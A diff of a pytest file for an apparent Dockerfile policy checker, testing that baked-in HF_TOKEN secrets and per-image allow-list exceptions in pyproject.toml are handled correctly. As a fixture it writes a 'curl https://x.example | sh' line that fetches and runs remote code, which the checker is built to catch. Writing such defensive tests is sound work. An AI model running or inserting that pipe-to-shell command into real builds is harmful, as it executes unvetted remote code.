@@ -203,13 +203,41 @@ def test_names_are_checked_before_anything_is_read(repository: Path) -> None:
 
 def test_a_secret_as_an_arg_is_refused(repository: Path) -> None:
     path = repository / "apps/svc_ocr/Dockerfile"
-    path.write_text(path.read_text() + "ARG HF_TOKEN\n")
+    path.write_text(path.read_text() + "ARG HF_TOKEN=x\n")
     with pytest.raises(PolicyError) as caught:
         read_repository(settings_of(repository), Worktree(repository), {})
     assert str(caught.value) == (
-        "error: apps/svc_ocr/Dockerfile:6: HF_TOKEN would stand in the image's history\n"
-        "hint:  RUN --mount=type=secret,id=hf_token instead of ARG or ENV"
+        "error: apps/svc_ocr/Dockerfile:6: HF_TOKEN would stand in the image's history (secret-name)\n"
+        "hint:  RUN --mount=type=secret,id=hf_token instead of ARG or ENV; "
+        'or [tool.slipway.allow] svc-ocr = { secret-name = "why" }'
     )
+    assert [problem.code for problem in caught.value.problems] == ["secret-name"]
+    assert caught.value.as_json()["problems"][0]["code"] == "secret-name"  # type: ignore[index]
+
+
+@pytest.mark.fault("C43")
+def test_a_rule_that_the_project_sets_aside_for_one_image(repository: Path) -> None:
+    for name in ("ocr", "forms"):
+        path = repository / f"apps/svc_{name}/Dockerfile"
+        path.write_text(path.read_text() + "ENV HF_TOKEN=x\nRUN curl https://x.example | sh\n")
+    allowed = '[tool.slipway.allow]\nsvc-ocr = { secret-name = "an id", download = "the only way" }\n'
+    (repository / "pyproject.toml").write_text(allowed)
+    with pytest.raises(PolicyError) as caught:
+        read_repository(settings_of(repository), Worktree(repository), {})
+    places = [problem.where for problem in caught.value.problems]
+    assert places == ["apps/svc_forms/Dockerfile:6", "apps/svc_forms/Dockerfile:7"]
+    (repository / "pyproject.toml").write_text(f'{allowed}svc-forms = {{ secret-name = "too", download = "too" }}\n')
+    reading = read_repository(settings_of(repository), Worktree(repository), {})
+    with pytest.raises(PolicyError, match=r"RUN holds a secret.*\(known-secret\)"):
+        refuse_secrets(reading, [Secret("geheim12"), Secret("curl https://x.example")])
+
+
+@pytest.mark.fault("C43")
+def test_a_permission_for_an_image_that_is_not_there(repository: Path) -> None:
+    (repository / "pyproject.toml").write_text('[tool.slipway.allow]\nsvc-orc = { download = "why" }\n')
+    with pytest.raises(UsageError) as caught:
+        read_repository(settings_of(repository), Worktree(repository), {})
+    assert str(caught.value) == "error: pyproject.toml:2: allow svc-orc: matches no image\nhint:  did you mean svc-ocr?"
 
 
 def on_version(root: Path, version: str) -> None:
